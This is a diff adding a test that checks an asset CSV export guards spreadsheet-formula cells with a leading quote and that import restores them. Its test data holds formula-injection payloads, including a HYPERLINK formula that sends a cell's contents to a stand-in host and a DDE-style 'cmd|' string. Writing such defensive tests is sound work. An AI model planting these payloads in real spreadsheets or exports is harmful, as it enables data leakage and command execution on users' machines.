@@ -132,6 +132,30 @@ describe('GET /assets/export', () => {
     expect((await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, name: 'nothing' } })).text).toBe('\uFEFF');
   });
 
+  it('guards cells a spreadsheet would run as a formula (= + - @), and the import takes the guard off again', async () => {
+    const { h, api, root } = await assetHarness();
+    const names = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', '+1', '-5', '@SUM(1+1)*cmd|', "'=already quoted", "'plain", 'a=b'];
+    for (const [i, name] of names.entries()) await api.ok('POST', '/assets', { body: sshAsset({ name, description: i === 0 ? '-starts with a dash' : 'd', tags: i === 0 ? '=t,x' : '' }) });
+    const csv = (await h.call('GET', '/assets/export', { query: { 'X-Auth-Token': root, field: 'name', order: 'ascend' } })).text;
+    const cells = (parse(csv, { bom: true }) as string[][]).map((r) => [r[0], r[8], r[9]]);
+    expect(cells).toEqual([
+      ["''=already quoted", 'd', ''],
+      ["'plain", 'd', ''],
+      ["'+1", 'd', ''],
+      ["'-5", 'd', ''],
+      ['\'=HYPERLINK("http://x.invalid/?"&A1,"click")', "'-starts with a dash", "'=t|x"],
+      ["'@SUM(1+1)*cmd|", 'd', ''],
+      ['a=b', 'd', ''],
+    ]);
+    const before = await h.db.selectFrom('assets').select(['name', 'description']).orderBy('name').execute();
+    const ids = (await api.ok<{ id: string }[]>('GET', '/assets')).map((a) => a.id);
+    await api.ok('DELETE', `/assets/${ids.join(',')}`);
+    expect(await api.ok<ImportAnswer>('POST', '/assets/import', csvUpload(csv))).toMatchObject({ successCount: names.length, errorCount: 0 });
+    expect(await h.db.selectFrom('assets').select(['name', 'description']).orderBy('name').execute()).toEqual(before);
+    const first = await h.db.selectFrom('assets').select('id').where('name', '=', names[0]!).executeTakeFirstOrThrow();
+    expect((await api.ok<{ tags: string }>('GET', `/assets/${first.id}`)).tags).toBe('=t,x');
+  });
+
   it('round trip: what the export writes, the import reads back the same', async () => {
     const { h, api, root } = await assetHarness();
     const tricky: Record<string, unknown>[] = [
